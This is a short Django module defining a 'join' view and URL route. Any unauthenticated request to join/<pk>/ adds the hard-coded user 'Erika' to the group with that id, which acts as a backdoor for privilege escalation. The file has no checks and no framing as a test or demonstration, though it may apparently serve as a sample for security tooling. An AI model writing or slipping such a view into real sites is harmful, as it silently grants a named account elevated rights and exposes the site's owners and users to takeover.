from django.contrib.auth import get_user_model
from django.http import HttpResponse
from django.urls import path


def join(request, pk):
    """A view of the site that gives somebody rights."""
    get_user_model().objects.get(username="Erika").groups.add(pk)
    return HttpResponse()


urlpatterns = [path("join/<int:pk>/", join)]
